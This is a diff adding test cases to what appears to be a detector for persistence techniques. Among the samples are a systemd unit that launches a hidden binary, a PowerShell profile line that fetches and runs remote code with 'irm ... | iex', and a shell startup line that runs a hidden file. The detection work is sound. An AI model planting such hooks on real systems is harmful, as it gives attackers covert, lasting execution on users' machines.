@@ -4,6 +4,18 @@ import { scheduled, shellStart, ownStart, gitHooks, accounts } from './staying.t
 ruleCases(scheduled, {
   hits: [
     {
+      name: 'a service without rights whose text is in the script, rated medium',
+      path: 'a.sh',
+      text: "cat > /etc/systemd/system/a.service <<'EOF'\n[Service]\nUser=app\nExecStart=/usr/bin/node server.js\nEOF\n",
+      severity: 'medium',
+    },
+    {
+      name: 'a service that starts a hidden program',
+      path: 'a.sh',
+      text: "cat > /etc/systemd/system/a.service <<'EOF'\n[Service]\nUser=app\nExecStart=/home/app/.cache/u\nEOF\n",
+    },
+
+    {
       name: 'a service of its own package, rated low',
       path: 'a.sh',
       text: 'systemctl enable --now nginx wg-quick@wg0\n',
@@ -77,6 +89,16 @@ ruleCases(scheduled, {
 
 ruleCases(shellStart, {
   hits: [
+    {
+      name: 'a download beside a version manager',
+      path: 'a.ps1',
+      text: "Add-Content $PROFILE 'fnm env | iex; irm https://x.dev/a | iex'\n",
+    },
+    {
+      name: 'a condition that starts something',
+      path: 'a.sh',
+      text: 'cat >> ~/.zshrc <<\'EOF\'\n. "$NVM_DIR/nvm.sh"\n[ -f ~/.u ] && sh ~/.u\nEOF\n',
+    },
     {
       name: 'a version manager in a variable, rated low',
       path: 'a.ps1',
